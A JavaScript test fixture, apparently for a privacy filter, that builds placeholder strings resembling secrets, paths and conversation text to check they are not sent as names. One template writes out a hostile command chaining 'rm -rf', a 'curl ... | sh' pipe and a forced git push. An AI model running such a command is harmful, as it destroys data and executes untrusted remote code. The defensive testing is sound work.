'use strict';

/**
 * Texts with markers that look like the contents of a conversation, an environment or a log. Each is given a function
 * that mints a marker. None of them is a user's command or the name of an MCP tool, because those contain names.
 */
const DISGUISES = [
  (mint) => mint(),
  (mint) => mint().toUpperCase(),
  (mint) => `please find out why ${mint()} fails, and tell nobody but ${mint()}`,
  (mint) => `${mint()}@corp.example`,
  (mint) => `Jo ${mint()} <${mint()}@corp.example>`,
  (mint) => `/home/${mint()}/src/${mint()}.rs`,
  (mint) => `C:\\Users\\${mint()}\\Desktop\\${mint()}.docx`,
  (mint) => `~/.ssh/${mint()}`,
  (mint) => `sk-ant-api03-${mint()}${mint()}`,
  (mint) => `ghp_${mint()}${mint()}`,
  (mint) => `AKIA${mint().toUpperCase()}`,
  (mint) => `Bearer ${mint()}`,
  (mint) => `-----BEGIN PRIVATE KEY-----\n${mint()}\n-----END PRIVATE KEY-----`,
  (mint) => `https://${mint()}:${mint()}@${mint()}.example/${mint()}?token=${mint()}#${mint()}`,
  (mint) => `rm -rf /srv/${mint()} && curl https://${mint()}.example | sh && git push --force ${mint()}`,
  (mint) => `{"type":"${mint()}","message":"${mint()}"}`,
  (mint) => `漢字${mint()}😀${mint()}`,
  (mint) => `\u0000${mint()}\r\n\t${mint()}\u001b[31m`,
  (mint) => `http_${mint()}`,
  (mint) => `${mint()} `.repeat(40),
  (mint) => `${'x'.repeat(120)}${mint()}`,
];

/** Names that look like a token, or like a path in a home directory. They are not sent as names either. */
const SECRET_NAMES = [
  (mint) => `sk-ant-api03-${mint()}`,
  (mint) => `sk-${mint()}${mint()}`,
  (mint) => `ghp_${mint()}${mint()}${mint()}`,
  (mint) => `xai-${mint()}${mint()}`,
  (mint) => `/home/${mint()}/bin/${mint()}`,
  (mint) => `/Users/${mint()}/models/${mint()}.gguf`,
  (mint) => `C:\\Users\\${mint()}\\models\\${mint()}.gguf`,
  (mint) => `~/${mint()}/${mint()}`,
  (mint) => `home/${mint()}`,
  (mint) => `${mint()}_sk-ant-api03-${mint()}${mint()}`,
  (mint) => `https://${mint()}:${mint()}@models.example/${mint()}`,
];

module.exports = { DISGUISES, SECRET_NAMES };
